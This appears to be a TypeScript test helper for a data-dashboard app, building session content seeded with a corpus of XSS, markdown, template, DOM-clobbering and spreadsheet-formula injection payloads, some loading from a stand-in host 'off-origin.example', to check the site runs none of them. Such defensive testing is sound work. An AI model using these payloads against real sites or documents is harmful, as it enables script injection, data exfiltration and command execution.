import { readContent } from '../content/read.ts';
import type { SessionContent } from '../content/schema.ts';
import { addAnnotation } from '../edits/annotations.ts';
import { addEnsemble } from '../edits/ensembles.ts';
import { addModule } from '../edits/modules.ts';
import { columnReader } from '../ensembles/columns/read-columns.ts';
import { contentFrom } from './contents.ts';
import { csvFile, EVERYTHING, importerOf, TEST_ASSETS } from './csv.ts';
import { withColumnsInside } from './inside-source.ts';

/** The property of `globalThis` that a script of the corpus sets when it runs. */
export const SCRIPT_MARK = 'scriptRan';

/** A host to which the site must never send a request. */
export const FOREIGN_HOST = 'off-origin.example';

const RUN = `${SCRIPT_MARK}=1`;

/** Texts that run a script, load from another site or leave the page if they are treated as markup or a URL. */
export const scriptCorpus: readonly string[] = [
  `<img src onerror=${RUN}>`,
  `<script>${RUN}</script>`,
  `"><script src=//${FOREIGN_HOST}/x.js></script>`,
  `'" autofocus onfocus=${RUN} x="`,
  `</title></textarea></style></script><svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${RUN}>#x"/></svg>`,
  `<math><mtext><table><mglyph><style><img src onerror=${RUN}>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<object data="javascript:${RUN}"></object><embed src=//${FOREIGN_HOST}/e>`,
  `<form action=//${FOREIGN_HOST}><button autofocus formaction="javascript:${RUN}">x</button></form>`,
  `<a href="javascript:${RUN}" id=x>x</a><a href=" java\tscript:${RUN}">x</a>`,
  `<details open ontoggle=${RUN}><video><source onerror=${RUN}></video>`,
  `<base href="https://${FOREIGN_HOST}/"><meta http-equiv=refresh content="0;url=//${FOREIGN_HOST}">`,
  `<link rel=stylesheet href=//${FOREIGN_HOST}/s.css><style>@import "//${FOREIGN_HOST}/i";</style>`,
  `<p style="background:url(//${FOREIGN_HOST}/b);position:fixed;inset:0">x</p>`,
  `<img src="https://${FOREIGN_HOST}/i.png" srcset="//${FOREIGN_HOST}/2.png 2x">`,
  `![x](https://${FOREIGN_HOST}/m.png) ![x](//${FOREIGN_HOST}/n.png "t")`,
  `[x](javascript:${RUN}) [y](data:text/html,<script>${RUN}</script>) [z]( JaVaScRiPt:${RUN})`,
  `<javascript:${RUN}> [x][1]\n\n[1]: javascript:${RUN}`,
  `\`\`\`<img src onerror=${RUN}>\n<img src onerror=${RUN}>\n\`\`\``,
  `|<img src onerror=${RUN}>|\n|-|\n|<svg onload=${RUN}>|`,
  `{{constructor.constructor('${RUN}')()}} \${${RUN}} <%= ${RUN} %>`,
  `<x id=__proto__><form name=body><input name=attributes><img name=getElementById>`,
  `=HYPERLINK("https://${FOREIGN_HOST}","x")`,
  `=cmd|'/c calc'!A1`,
  `url(https://${FOREIGN_HOST}/c.png);}*{background:url(//${FOREIGN_HOST}/d)`,
  `\u202Egpj.exe\u0000\u2028<img src onerror=${RUN}>`,
];

/** A module's type, and enum settings: with another text the module would only not be shown. */
const WORDS = new Set(['type', 'of', 'at', 'rows', 'ensemble', 'ensembles']);

/**
 * A content with a script in every string field that the schema allows: names, titles, settings, columns of imported
 * data and a module's type; notes have all scripts. The first text becomes the script at `start`, each other text the
 * next one, and equal texts the same script, so that charts still find their data. It passes `readContent`, as an
 * attacker's content would.
 */
export async function contentWithScripts(start: number): Promise<SessionContent> {
  let content: SessionContent = structuredClone(await everyKindOfThing());
  const scriptOf = new Map<string, string>();
  for (const path of stringPaths(content)) {
    if (WORDS.has(String(path.at(-1)))) continue;
    const text = stringAt(content, path);
    const known = scriptOf.get(text);
    const all = path.at(-1) === 'text' ? [scriptCorpus.join('\n\n')] : from(start + scriptOf.size);
    const changed = firstAccepted(content, path, known === undefined ? all : [known]);
    if (!changed) continue;
    content = changed;
    scriptOf.set(text, stringAt(content, path));
  }
  const [script = ''] = from(start);
  const bare = { settings: { [script]: script, text: script }, size: { w: 4, h: 4 } };
  const [{ id } = { id: '' }] = content.dashboards;
  for (const type of ['note', 'time-series', 'table', script]) {
    content = addModule(content, id, { ...bare, type });
  }
  return content;
}

/** The corpus rotated to begin at `start`. */
function from(start: number): readonly string[] {
  const at = start % scriptCorpus.length;
  return [...scriptCorpus.slice(at), ...scriptCorpus.slice(0, at)];
}

function firstAccepted(
  content: SessionContent,
  path: readonly string[],
  scripts: readonly string[],
): SessionContent | undefined {
  for (const script of scripts) {
    const changed = structuredClone(content);
    set(changed, path, script);
    if (readContent(changed).ok) return changed;
  }
  return undefined;
}

/** The path of every string in a value. */
export function stringPaths(value: unknown, path: readonly string[] = []): (readonly string[])[] {
  if (typeof value === 'string') return [path];
  if (typeof value !== 'object' || value === null) return [];
  return Object.entries(value).flatMap(([key, item]) => stringPaths(item, [...path, key]));
}

/** The string at a path. */
export function stringAt(value: unknown, path: readonly string[]): string {
  return String(path.reduce((item, key) => (item as Record<string, unknown>)[key], value));
}

function set(target: object, path: readonly string[], value: string): void {
  let holder = target as Record<string, unknown>;
  for (const key of path.slice(0, -1)) holder = holder[key] as Record<string, unknown>;
  holder[path.at(-1) ?? ''] = value;
}

async function everyKindOfThing(): Promise<SessionContent> {
  const rows = [0, 1, 2].flatMap((one) => [
    `${one},2025-01-01,1,2,3`,
    `${one},2025-02-01,4,5,${one}`,
  ]);
  const vectors = ['real,date,FOPR [Sm3/d],FWCT,FOPT [Sm3]', ...rows].join('\n');
  const parameters = 'real,PERM_MULT [mD],CONCEPT\n0,1,a\n1,2,b\n2,3,a\n';
  const importer = importerOf(csvFile(vectors, 'v.csv'), csvFile(parameters, 'p.csv'));
  await importer.read({});
  const [packed] = await importer.pack(EVERYTHING);
  if (!packed) throw new Error('The small files were refused.');
  const source = await withColumnsInside(packed, columnReader(TEST_ASSETS));
  const look = { name: 'x', color: 'series-1', visible: true, charts: 'all' } as const;
  let content = contentFrom('field-overview');
  content = { ...content, ensembleSet: { ensembles: [] } };
  content = addEnsemble(content, { name: 'Imported', source });
  content = addAnnotation(content, { ...look, kind: 'dateMarker', date: '2025-01-01' });
  content = addAnnotation(content, { ...look, kind: 'threshold', vector: 'FOPT', value: 2 });
  return {
    ...content,
    dashboards: content.dashboards.map((dashboard) => ({
      ...dashboard,
      modules: dashboard.modules.map((module) => ({ ...module, title: `Title ${module.id}` })),
    })),
  };
}
